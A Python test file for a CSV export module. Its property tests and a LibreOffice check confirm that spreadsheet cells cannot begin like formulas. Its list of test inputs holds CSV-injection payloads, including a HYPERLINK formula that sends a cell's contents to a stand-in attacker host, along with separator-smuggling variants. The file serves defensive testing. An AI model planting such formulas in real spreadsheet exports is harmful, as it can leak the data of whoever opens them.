"""Tables: no cell is a formula, whoever wrote it and whichever way the reader divides columns."""

import csv
import re
import shutil
import subprocess
from io import StringIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evidence.exchange.table import cell, table_csv

STARTS = tuple("=+-@\t\r\n\0＝＋－＠")
FORMULAS = [
    '=HYPERLINK("https://evil.example.test/?"&A1,"open")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    " =1+1",
    "\u200b=1+1",
    "＝1+1",
    '="a";=1+1',
    "x;=1+1",
    "x\t=1+1",
    "x\n=1+1",
    '";=1+1;"',
]
SOFFICE = shutil.which("soffice")


@given(st.text("=+-@＝＋－＠\t\r\n\0 ;,|'a\u200b", max_size=8))
def test_no_cell_begins_like_a_formula_however_it_is_divided(text: str) -> None:
    made = cell(text)
    assert not made.startswith(STARTS)
    pieces = re.split(r"[;,|\t\r\n]", made)
    assert not [piece for piece in pieces if re.match(r"[\s\0\u200b]*[=+\-@＝＋－＠]", piece)]


@given(st.text(alphabet=st.characters(categories=["L", "N", "Zs"])))
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


@given(st.lists(st.text(alphabet=st.characters(codec="utf-8")), min_size=2, max_size=2))
def test_what_was_written_is_read_again(texts: list[str]) -> None:
    content = table_csv(("a", "b"), [dict(zip("ab", texts, strict=True))]).decode()
    assert list(csv.reader(StringIO(content, newline="")))[1] == [cell(text) for text in texts]


def test_missing_columns_are_empty_and_unknown_ones_refused() -> None:
    assert table_csv(("a", "b"), [{"b": "1"}]) == b'"a","b"\r\n"","1"\r\n'
    with pytest.raises(ValueError, match="not in fieldnames"):
        table_csv(("a",), [{"c": "1"}])


@pytest.mark.slow
def test_no_formula_runs_in_libreoffice(tmp_path: Path) -> None:
    """Converted to a flat document, which tells formulas from text."""
    if SOFFICE is None:
        pytest.skip("NO LIBREOFFICE HERE: install Debian's package `libreoffice-calc-nogui` to run this test")
    assert formulas_in(SOFFICE, tmp_path, b'"a"\r\n"=1+1"\r\n') == 1
    assert formulas_in(SOFFICE, tmp_path, table_csv(("a",), [{"a": text} for text in FORMULAS])) == 0


def formulas_in(soffice: str, folder: Path, content: bytes) -> int:
    """How many cells LibreOffice calculates, dividing by comma, semicolon and tab, quoted formulas evaluated."""
    (folder / "table.csv").write_bytes(content)
    # Tokens: separators 44, 59 and 9; quote 34; UTF-8; from line 1; no formats; language; quoted field not as text.
    options = "--infilter=CSV:44/59/9,34,76,1,,1033,false,true,false,false,false,-1,true"
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [
        soffice,
        profile,
        "--headless",
        options,
        "--convert-to",
        "fods",
        "--outdir",
        folder,
        folder / "table.csv",
    ]
    subprocess.run(command, check=True, timeout=180, capture_output=True)
    made = next(path for path in folder.glob("*.fods"))
    found = made.read_text("utf-8").count("table:formula=")
    made.unlink()
    return found
